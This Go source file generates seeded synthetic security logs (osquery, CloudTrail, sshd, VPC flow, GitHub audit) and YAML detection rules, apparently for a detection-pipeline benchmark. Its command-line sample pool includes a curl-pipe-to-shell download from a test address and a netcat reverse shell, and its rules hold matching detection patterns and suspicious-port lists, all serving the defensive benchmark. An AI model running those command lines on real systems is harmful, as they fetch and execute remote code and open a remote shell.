// Package benchgen writes the seeded corpora and detection sets of the
// end-to-end benchmark (`streamalert bench`): osquery result lines,
// CloudTrail S3 objects, sshd syslog lines, VPC flow log files and GitHub
// audit records shaped like the shipped examples (examples/logs), and
// generated rule folders of any size shaped like real detections.
//
// The same seed always gives the same bytes, so two runs (one core, all
// cores, with or without an optimisation) can be compared alert for alert.
package benchgen

import (
	"bufio"
	"compress/gzip"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
)

// Corpus is a set of generated input files.
type Corpus struct {
	Name    string   // osquery, cloudtrail, sshd, vpcflow, github
	Files   []string // absolute paths, in order
	Records int      // records the files hold (events, for CloudTrail)
	Bytes   int64    // uncompressed bytes
}

// Names lists the corpora Write knows, in a stable order.
var Names = []string{"osquery", "sshd", "cloudtrail", "vpcflow", "github"}

// Write generates corpus name with n records into dir (created if needed).
// CloudTrail writes gzip objects of perObject events each (500 when 0), as
// CloudTrail delivers them to S3; the others write one file.
func Write(dir, name string, n, perObject int, seed uint64) (Corpus, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return Corpus{}, err
	}
	r := rand.New(rand.NewPCG(seed, 0x5eed))
	c := Corpus{Name: name}
	switch name {
	case "cloudtrail":
		if perObject <= 0 {
			perObject = 500
		}
		for i := 0; i < n; i += perObject {
			path := filepath.Join(dir, fmt.Sprintf("cloudtrail-%05d.json.gz", i/perObject))
			size, err := writeGzip(path, func(w *bufio.Writer) {
				w.WriteString(`{"Records":[`)
				for j := 0; j < perObject && i+j < n; j++ {
					if j > 0 {
						w.WriteByte(',')
					}
					w.Write(cloudtrailEvent(r, i+j))
				}
				w.WriteString("]}\n")
			})
			if err != nil {
				return c, err
			}
			c.Files = append(c.Files, path)
			c.Bytes += size
		}
		c.Records = n
		return c, nil
	case "osquery", "sshd", "vpcflow", "github":
	default:
		return c, fmt.Errorf("unknown corpus %q (known: %s)", name, strings.Join(Names, ", "))
	}
	ext := map[string]string{"osquery": ".jsonl", "sshd": ".log", "vpcflow": ".log", "github": ".jsonl"}[name]
	path := filepath.Join(dir, name+ext)
	fh, err := os.Create(path)
	if err != nil {
		return c, err
	}
	w := bufio.NewWriterSize(fh, 1<<20)
	cw := &countWriter{w: w}
	line := map[string]func(*rand.Rand, int) []byte{
		"osquery": osqueryLine, "sshd": sshdLine, "vpcflow": vpcflowLine, "github": githubLine,
	}[name]
	if name == "vpcflow" {
		cw.WriteString("version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status\n")
	}
	for i := range n {
		cw.Write(line(r, i))
		cw.WriteString("\n")
	}
	if err := w.Flush(); err != nil {
		fh.Close()
		return c, err
	}
	if err := fh.Close(); err != nil {
		return c, err
	}
	c.Files, c.Records, c.Bytes = []string{path}, n, cw.n
	return c, nil
}

type countWriter struct {
	w *bufio.Writer
	n int64
}

func (c *countWriter) Write(b []byte) {
	n, _ := c.w.Write(b)
	c.n += int64(n)
}

func (c *countWriter) WriteString(s string) {
	n, _ := c.w.WriteString(s)
	c.n += int64(n)
}

func writeGzip(path string, body func(*bufio.Writer)) (int64, error) {
	fh, err := os.Create(path)
	if err != nil {
		return 0, err
	}
	zw, _ := gzip.NewWriterLevel(fh, gzip.BestSpeed)
	cz := &counting{w: zw}
	w := bufio.NewWriterSize(cz, 1<<20)
	body(w)
	err = w.Flush()
	if err == nil {
		err = zw.Close()
	}
	if cerr := fh.Close(); err == nil {
		err = cerr
	}
	return cz.n, err
}

type counting struct {
	w interface{ Write([]byte) (int, error) }
	n int64
}

func (c *counting) Write(b []byte) (int, error) {
	n, err := c.w.Write(b)
	c.n += int64(n)
	return n, err
}

// The value pools records draw from. Names the generated rules test
// (QueryName) and values they look for appear with a small probability, so
// a run produces alerts at a realistic rate, not on every record.
var (
	users    = []string{"alice", "bob", "carol", "dave", "erin", "frank", "mallory", "root", "deploy", "svc-backup", "oscar", "peggy"}
	hosts    = []string{"web-1.prod.example.com", "web-2.prod.example.com", "db-1.prod.example.com", "bastion.example.com", "build-7.ci.example.com"}
	internal = []string{"10.20.1.15", "10.20.4.9", "10.0.12.34", "172.16.8.2", "192.168.1.20"}
	external = []string{"198.51.100.23", "203.0.113.77", "52.94.236.248", "185.220.101.4", "45.33.32.156"}
	shipped  = []string{
		"pack_incident-response_logged_in_users", "pack_incident-response_listening_ports",
		"pack_incident-response_processes", "pack_incident-response_crontab",
		"pack_incident-response_kernel_modules", "pack_incident-response_authorized_keys",
	}
	cmdlines = []string{
		"/usr/sbin/sshd -D", "/usr/bin/python3 /opt/app/worker.py", "bash -c curl http://203.0.113.77/x.sh | sh",
		"/usr/bin/containerd", "nc -e /bin/sh 185.220.101.4 4444", "/usr/lib/systemd/systemd-journald",
		"curl -fsSL https://example.com/install.sh", "/bin/bash --login",
	}
	ctEvents = []string{
		"DescribeInstances", "GetObject", "AssumeRole", "ListBuckets", "ConsoleLogin", "PutObject",
		"CreateUser", "DeleteTrail", "StopLogging", "CreateAccessKey", "PutBucketPolicy", "AttachUserPolicy",
	}
	ctSources = []string{"ec2.amazonaws.com", "s3.amazonaws.com", "sts.amazonaws.com", "signin.amazonaws.com", "iam.amazonaws.com", "cloudtrail.amazonaws.com"}
)

// QueryNames is how many distinct generated query names (osquery "name")
// there are; generated rules spread their equality guards over them.
const QueryNames = 100

// QueryName is the i-th generated osquery query name.
func QueryName(i int) string { return fmt.Sprintf("pack_bench_q%02d", i%QueryNames) }

func pick[T any](r *rand.Rand, xs []T) T { return xs[r.IntN(len(xs))] }

func osqueryLine(r *rand.Rand, i int) []byte {
	name := QueryName(r.IntN(QueryNames))
	if r.IntN(10) < 3 {
		name = pick(r, shipped)
	}
	host := pick(r, hosts)
	ip := pick(r, internal)
	if r.IntN(8) == 0 {
		ip = pick(r, external)
	}
	t := 1709632800 + i
	var cols string
	switch {
	case strings.HasSuffix(name, "listening_ports"):
		port := pick(r, []string{"22", "443", "8080", "4444", "31337"})
		cols = fmt.Sprintf(`{"pid":"%d","port":"%s","protocol":"6","family":"2","address":"0.0.0.0","fd":"3","socket":"%d","path":"","net_namespace":"4026531992"}`, 1000+r.IntN(30000), port, 800000+r.IntN(99999))
	case strings.HasSuffix(name, "processes"):
		cols = fmt.Sprintf(`{"pid":"%d","name":"proc","path":"/usr/bin/proc","cmdline":%q,"uid":"%d","parent":"1"}`, 1000+r.IntN(30000), pick(r, cmdlines), r.IntN(1100))
	default:
		cols = fmt.Sprintf(`{"type":"user","user":"%s","tty":"pts/%d","host":"%s","time":"%d","pid":"%d","uid":"%d","cmdline":%q,"sid":"","registry_hive":""}`,
			pick(r, users), r.IntN(8), ip, t-11, 1000+r.IntN(30000), r.IntN(1100), pick(r, cmdlines))
	}
	return fmt.Appendf(nil, `{"name":"%s","hostIdentifier":"%s","calendarTime":"Tue Mar  5 10:00:01 2024 UTC","unixTime":%d,"epoch":0,"counter":%d,"numerics":false,"decorations":{"host_uuid":"4C4C4544-0042-3510-8052-B4C04F565331","hostname":"%s","osquery_version":"5.11.0"},"columns":%s,"action":"%s"}`,
		name, host, t, i%1000, host, cols, pick(r, []string{"added", "added", "added", "removed"}))
}

func sshdLine(r *rand.Rand, i int) []byte {
	ts := fmt.Sprintf("Mar %2d %02d:%02d:%02d", 1+i/86400%28, i/3600%24, i/60%60, i%60)
	host := strings.SplitN(pick(r, hosts), ".", 2)[0]
	pid := 20000 + r.IntN(9000)
	ip := pick(r, internal)
	if r.IntN(4) == 0 {
		ip = pick(r, external)
	}
	user := pick(r, users)
	port := 40000 + r.IntN(25000)
	switch r.IntN(6) {
	case 0:
		return fmt.Appendf(nil, "%s %s sshd[%d]: Failed password for %s from %s port %d ssh2", ts, host, pid, user, ip, port)
	case 1:
		return fmt.Appendf(nil, "%s %s sshd[%d]: Failed password for invalid user %s from %s port %d ssh2", ts, host, pid, user, ip, port)
	case 2:
		return fmt.Appendf(nil, "%s %s sshd[%d]: Accepted password for %s from %s port %d ssh2", ts, host, pid, user, ip, port)
	case 3:
		return fmt.Appendf(nil, "%s %s sshd[%d]: pam_unix(sshd:session): session opened for user %s(uid=1000) by (uid=0)", ts, host, pid, user)
	case 4:
		return fmt.Appendf(nil, "%s %s sshd[%d]: Connection closed by %s port %d [preauth]", ts, host, pid, ip, port)
	default:
		return fmt.Appendf(nil, "%s %s sshd[%d]: Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:q3W1mX0dV9Yb0nT2c8pLr5Zs7Kf4Jh6Ga1Eu3Oi9PkM", ts, host, pid, user, ip, port)
	}
}

func vpcflowLine(r *rand.Rand, i int) []byte {
	src, dst := pick(r, internal), pick(r, external)
	if r.IntN(2) == 0 {
		src, dst = dst, src
	}
	action := "ACCEPT"
	if r.IntN(5) == 0 {
		action = "REJECT"
	}
	start := 1709636400 + i/10
	return fmt.Appendf(nil, "2 123456789012 eni-0a9b8c7d6e5f40312 %s %s %d %d 6 %d %d %d %d %s OK",
		src, dst, 1024+r.IntN(60000), pick(r, []int{22, 53, 443, 3389, 8080, 4444}), 1+r.IntN(50), 60+r.IntN(90000), start, start+60, action)
}

func githubLine(r *rand.Rand, i int) []byte {
	action := pick(r, []string{"repo.create", "org.add_member", "repo.access", "git.clone", "protected_branch.destroy", "org.update_member", "repo.destroy", "team.add_member"})
	op := map[bool]string{true: "remove", false: "create"}[strings.HasSuffix(action, "destroy")]
	ts := int64(1709632900123) + int64(i)*1000
	return fmt.Appendf(nil, `{"@timestamp":%d,"_document_id":"%022d","action":"%s","actor":"%s","actor_id":%d,"actor_ip":"%s","actor_is_bot":false,"actor_location":{"country_code":"US"},"business":"acme-corp","business_id":5511,"created_at":%d,"operation_type":"%s","org":"acme","org_id":112233,"request_id":"C41E:3F2A:1B2C3D4:1C2D3E4:65E6F1A0","user_agent":"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)","repo":"acme/service-%d","repo_id":%d,"visibility":"private","public_repo":false}`,
		ts, r.Uint64()%1e18, action, pick(r, users), 4000+r.IntN(200), pick(r, append(internal, external...)), ts, op, r.IntN(40), 771000+r.IntN(999))
}

func cloudtrailEvent(r *rand.Rand, i int) []byte {
	ev := pick(r, ctEvents)
	src := pick(r, ctSources)
	ip := pick(r, internal)
	if r.IntN(5) == 0 {
		ip = pick(r, external)
	}
	user := pick(r, users)
	errPart := ""
	if r.IntN(20) == 0 {
		errPart = `,"errorCode":"AccessDenied","errorMessage":"User is not authorized to perform this operation"`
	}
	ts := fmt.Sprintf("2024-03-05T%02d:%02d:%02dZ", i/3600%24, i/60%60, i%60)
	return fmt.Appendf(nil, `{"eventVersion":"1.09","userIdentity":{"type":"AssumedRole","principalId":"AROA3XFRBF535PLBIFPI4:%s","arn":"arn:aws:sts::123456789012:assumed-role/Admin/%s","accountId":"123456789012","accessKeyId":"ASIA3XFRBF53EXAMPLE1","sessionContext":{"sessionIssuer":{"type":"Role","principalId":"AROA3XFRBF535PLBIFPI4","arn":"arn:aws:iam::123456789012:role/Admin","accountId":"123456789012","userName":"Admin"},"webIdFederationData":{},"attributes":{"creationDate":"2024-03-05T09:58:12Z","mfaAuthenticated":"true"}}},"eventTime":"%s","eventSource":"%s","eventName":"%s","awsRegion":"us-east-1","sourceIPAddress":"%s","userAgent":"aws-cli/2.15.22 Python/3.11.8 Linux/6.1 exe/x86_64","requestParameters":{"bucketName":"logs-%d","key":"a/b/%d.json"},"responseElements":null,"requestID":"%016x","eventID":"%016x-%d","readOnly":true,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"123456789012","eventCategory":"Management"%s}`,
		user, user, ts, src, ev, ip, r.IntN(50), i, r.Uint64(), r.Uint64(), i, errPart)
}

// Rules writes n generated osquery detections into dir, one file each, plus
// a library file of the lists they share. Each is shaped like a real
// detection: an equality on the query name (spread over QueryNames names,
// so about n/QueryNames rules reach each record), one selective clause and
// one to three more among `in` lists, in_cidr, matches and any over
// normalized values.
func Rules(dir string, n int, seed uint64) error {
	if err := os.MkdirAll(filepath.Join(dir, "lib"), 0o755); err != nil {
		return err
	}
	lib := `lists:
  bench_admins: [alice, bob, carol, dave]
  bench_corp: [10.0.0.0/8, 172.16.0.0/12, 192.168.0.0/16]
  bench_bad_ports: ["4444", "31337", "1337"]
`
	if err := os.WriteFile(filepath.Join(dir, "lib", "bench_lists.yaml"), []byte(lib), 0o644); err != nil {
		return err
	}
	r := rand.New(rand.NewPCG(seed, 0x7a1e))
	clauses := []func(i int) string{
		func(i int) string {
			return fmt.Sprintf(`record.columns.user in [%q, %q, "svc-%d"]`, pick(r, users), pick(r, users), i)
		},
		func(i int) string { return `record.columns.user not in lists.bench_admins` },
		func(i int) string { return `not in_cidr(record.columns.host ?? "", lists.bench_corp)` },
		func(i int) string {
			return fmt.Sprintf(`in_cidr(record.columns.host ?? "", ["203.0.%d.0/24", "198.51.100.0/24"])`, i%256)
		},
		func(i int) string {
			return fmt.Sprintf(`(record.columns.cmdline ?? "") matches "(curl|wget) .*/stage%d/"`, i%97)
		},
		func(i int) string { return fmt.Sprintf(`any(normalized.userName, # == %q)`, pick(r, users)) },
		func(i int) string { return fmt.Sprintf(`record.hostIdentifier == %q`, pick(r, hosts)) },
		func(i int) string { return `record.action == "added"` },
		func(i int) string { return fmt.Sprintf(`(record.columns.uid ?? "") == "%d"`, r.IntN(1100)) },
		func(i int) string { return `(record.columns.port ?? "") in lists.bench_bad_ports` },
	}
	// Every rule has one selective clause (a rare user on a given host, a
	// uid, an address range, a command line), as real detections do: a set
	// of 100 rules reaching a record fires about once.
	selective := []func(i int) string{
		func(i int) string {
			return fmt.Sprintf(`record.columns.user in [%q, "svc-%d"] and record.hostIdentifier == %q`, pick(r, users), i, pick(r, hosts))
		},
		clauses[8], clauses[3], clauses[4],
	}
	for i := range n {
		k := 1 + r.IntN(3)
		parts := []string{fmt.Sprintf(`record.name == %q`, QueryName(i)), selective[r.IntN(len(selective))](i)}
		for _, j := range r.Perm(len(clauses))[:k] {
			parts = append(parts, clauses[j](i))
		}
		sev := pick(r, []string{"low", "medium", "high"})
		body := fmt.Sprintf("name: bench_osquery_%05d\ndescription: Generated benchmark detection %d.\nlog_types: [osquery:differential]\ncondition: |\n  %s\noutputs: [slack:security]\nseverity: %s\n",
			i, i, strings.Join(parts, "\n  and "), sev)
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("bench_osquery_%05d.yaml", i)), []byte(body), 0o644); err != nil {
			return err
		}
	}
	return nil
}
